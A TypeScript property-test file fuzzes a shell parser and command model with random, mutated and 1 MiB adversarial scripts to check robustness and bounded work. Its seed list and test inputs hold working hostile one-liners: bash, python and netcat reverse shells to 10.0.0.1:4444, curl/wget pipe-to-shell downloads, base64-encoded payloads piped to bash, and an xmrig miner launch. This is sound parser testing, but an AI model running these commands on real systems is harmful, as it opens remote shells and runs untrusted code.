/**
 * Property tests for the shell parser and the command model: arbitrary and mutated scripts never
 * throw and always return well-formed results; adversarial 1 MiB inputs stay bounded.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { buildCommandModel } from '../src/workload/command.js';
import { MAX_NESTING, parseShell, parseWork } from '../src/workload/shell.js';
import type { SimpleCommand } from '../src/workload/types.js';

const TOKENS = [
  ' ',
  '\t',
  '\n',
  ';',
  ';;',
  '&',
  '&&',
  '|',
  '||',
  '|&',
  '(',
  ')',
  '{ ',
  ' }',
  '<',
  '>',
  '>>',
  '>&',
  '&>',
  '2>&1',
  '0<&196',
  '<>',
  '<<<',
  '<<EOF\n',
  '<<-X\n',
  '\nEOF\n',
  '\tX\n',
  "'",
  '"',
  '`',
  '\\',
  '\\\n',
  '$',
  '$(',
  '$((',
  '${',
  '}',
  "$'",
  '\\x41',
  '\\101',
  '#',
  '=',
  'A=',
  'a',
  'sh',
  'bash -c ',
  'sh -ec ',
  'eval ',
  'busybox ',
  'sudo ',
  'timeout 5 ',
  'env ',
  'echo ',
  'printf ',
  'base64 -d',
  'xxd -r -p',
  'if ',
  'then ',
  'else ',
  'fi',
  'while ',
  'do ',
  'done',
  'for x in ',
  'case x in ',
  'a) ',
  'esac',
  'function f ',
  'f() ',
  '[[ ',
  ' ]]',
  '!',
  'time ',
  '<(',
  '>(',
  'aGVsbG8=',
  'Y3VybCB4fHNo',
  '\\x63\\x75',
  '/dev/tcp/1.2.3.4/80',
  '$HOME',
  '$1',
  '$@',
  '~',
  '*',
];

const SEEDS = [
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
  'curl -fsSL http://x/y.sh | bash',
  'wget -qO- http://x | sh',
  'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDMgMD4mMQ== | base64 -d | bash',
  'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444))\'',
  'for i in $(seq 1 3); do echo "$i `id`" $\'\\x41\'; done',
  'case "$1" in a|b) x;; *) y;; esac',
  'cat <<EOF | sh\ncurl x\nEOF\n',
  'f() { nohup setsid xmrig -o pool:3333 >/dev/null 2>&1 & }; f',
  'eval "$(printf \'\\x69\\x64\' )"',
];

const tokenScript = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((tokens) => tokens.join(''));

/** A seed one-liner with random edits: insertions of tokens or characters, deletions. */
const mutatedScript = fc
  .tuple(
    fc.constantFrom(...SEEDS),
    fc.array(
      fc.tuple(
        fc.nat(),
        fc.oneof(fc.constantFrom(...TOKENS), fc.string({ maxLength: 3 })),
        fc.nat({ max: 3 }),
      ),
      { maxLength: 8 },
    ),
  )
  .map(([seed, edits]) =>
    edits.reduce((script, [at, insert, remove]) => {
      const index = at % (script.length + 1);
      return script.slice(0, index) + insert + script.slice(index + remove);
    }, seed),
  );

const anyScript = fc.oneof(
  tokenScript,
  mutatedScript,
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

function expectWellFormed(command: SimpleCommand, minDepth: number): void {
  expect(Array.isArray(command.argv)).toBe(true);
  for (const arg of command.argv) expect(typeof arg).toBe('string');
  expect(typeof command.program).toBe('string');
  expect(command.depth).toBeGreaterThanOrEqual(minDepth);
  expect(command.pipelinePosition).toBeGreaterThanOrEqual(0);
  for (const redirect of command.redirects) {
    expect(typeof redirect.op).toBe('string');
    expect(typeof redirect.target).toBe('string');
  }
}

describe('shell parser fuzz', () => {
  it('parses 3,000 random and mutated scripts without throwing', () => {
    fc.assert(
      fc.property(anyScript, (script) => {
        const result = parseShell(script, { depth: 1, origin: 'shell', env: new Map([['HOME', '/root']]) });
        for (const command of result.commands) expectWellFormed(command, 1);
        for (const problem of result.problems) expect(typeof problem).toBe('string');
        expect(result.problems.every((problem) => !problem.startsWith('parser error'))).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it('builds 2,000 command models from random containers without throwing', () => {
    const item = fc.oneof(
      anyScript,
      fc.constantFrom('sh', '-c', 'bash', '-ec', '$(X)', '$$(X)'),
      fc.anything(),
    );
    fc.assert(
      fc.property(fc.array(item, { maxLength: 4 }), fc.array(item, { maxLength: 3 }), (command, args) => {
        const model = buildCommandModel({ command, args }, [
          { name: 'X', value: 'echo aWQ= | base64 -d | sh', isReference: false },
        ]);
        expect(model.problems.every((problem) => !problem.startsWith('command analysis failed'))).toBe(true);
        for (const command of model.commands) expectWellFormed(command, 0);
        expect(model.commands.every((command) => command.depth <= 4 + MAX_NESTING)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('adversarial inputs', () => {
  const MiB = 1024 * 1024;
  /**
   * The shape checks are the real assertions. The clock only catches a quadratic path: each of these
   * inputs takes 0.05–0.5 s on an idle 2-core machine and several times that when the machine is
   * busy, while a quadratic path over 1 MiB takes minutes.
   */
  const GENEROUS_MS = 10_000;
  const fill = (unit: string): string => unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);

  it.each([
    ['open parentheses', fill('(')],
    ['spaced parentheses', fill('( ')],
    ['nested substitutions', fill('$(')],
    ['nested substitutions with words', fill('$(a ')],
    ['nested parameter expansions', fill('${')],
    ['double quotes', fill('"')],
    ['single quotes', fill("'")],
    ['mixed quotes', fill('"\'')],
    ['backslashes', fill('\\')],
    ['backticks', fill('`')],
    ['escaped backticks', fill('`\\`\\\\\\`')],
    ['ANSI-C strings', fill("$'\\")],
    ['heredocs', fill('<<A\n')],
    ['heredocs on one line', fill('<<A ')],
    ['case items', fill('case a in a) ')],
    ['groups', fill('{ ')],
    ['keywords', fill('if then ')],
    ['commands', fill('a;')],
    ['pipes', fill('a|')],
    ['redirects', fill('2>&1 ')],
    ['assignments', fill('A=1 ')],
    ['one long word', fill('a')],
    ['arithmetic', fill('$((')],
    ['process substitutions', fill('<(')],
    ['tests', fill('[[ ')],
    ['functions', fill('f() { ')],
  ])('%s: 1 MiB stays bounded', (_name, script) => {
    const started = performance.now();
    const result = parseShell(script, { depth: 0, origin: 'shell' });
    const elapsed = performance.now() - started;
    expect(result.commands.length).toBeLessThanOrEqual(50_000);
    expect(result.problems.length).toBeLessThanOrEqual(51);
    expect(result.problems.every((problem) => !problem.startsWith('parser error'))).toBe(true);
    expect(Math.max(0, ...result.commands.map((command) => command.depth))).toBeLessThanOrEqual(
      MAX_NESTING + 1,
    );
    expect(elapsed).toBeLessThan(GENEROUS_MS);
  });

  it.each([
    ['nested sh -c', fill("sh -c '")],
    [
      'echo | base64 -d chains',
      fill(`echo ${Buffer.from('echo aWQ= | base64 -d | sh').toString('base64')} | base64 -d | sh;`),
    ],
    ['printf formats', `printf '${fill('%s')}' ${fill('a ')}`],
    ['cat chains', `echo id ${fill('| cat ')} | sh`],
    ['eval strings', fill('eval ')],
    ['echo flags', `echo ${fill('-e ')} '\\x69\\x64' | sh`],
    ['environment per eval', fill('eval x;')],
  ])('%s: 1 MiB command model stays bounded', (_name, script) => {
    const started = performance.now();
    // A large environment: every nested script (each `eval`) must not cost its size again.
    const env = Array.from({ length: 10_000 }, (_, i) => ({ name: `V${i}`, value: 'x', isReference: false }));
    const model = buildCommandModel({ command: ['sh', '-c', script] }, env);
    const elapsed = performance.now() - started;
    expect(model.problems.every((problem) => !problem.startsWith('command analysis failed'))).toBe(true);
    expect(model.decoded.reduce((total, payload) => total + payload.text.length, 0)).toBeLessThanOrEqual(
      256 * 1024,
    );
    expect(model.scripts.reduce((total, text) => total + Math.min(text.length, MiB), 0)).toBeLessThanOrEqual(
      4 * MiB,
    );
    expect(elapsed).toBeLessThan(GENEROUS_MS);
  });
});

describe('work against input size', () => {
  const KiB = 1024;
  const fill = (unit: string, bytes: number): string =>
    unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
  /** Characters the parser examined to build the command model of `sh -c script`. */
  function work(script: string): number {
    const before = parseWork.characters;
    buildCommandModel({ command: ['sh', '-c', script] }, []);
    return parseWork.characters - before;
  }

  /**
   * No clock: the parser counts the characters it examines, and 16 times the input must cost at most
   * about 16 times the work. A path that rescans the rest of the script per token fails by far.
   */
  it.each([
    '(',
    '$(',
    '$(a ',
    '${',
    '"',
    "'",
    '\\',
    '`',
    '`\\`\\\\\\`',
    "$'\\",
    '<<A\n',
    '<<A ',
    'case a in a) ',
    'if then ',
    'a;',
    'a|',
    '2>&1 ',
    'A=1 ',
    'A=$A$A ',
    'a',
    '$((',
    '<(',
    '[[ ',
    'f() { ',
    '#',
    '\\x41',
    'nc -e /bin/sh 1.2.3.4 1 ; ',
    'curl http://x/|sh;',
    "sh -c '",
    'eval ',
    "printf '\\x69\\x64' | sh;",
  ])('%j: 16 times the input is at most 16 times the work', (unit) => {
    const small = work(fill(unit, 16 * KiB));
    const large = work(fill(unit, 256 * KiB));
    expect(large).toBeLessThanOrEqual(16 * small * 1.05 + 1000);
  });
});
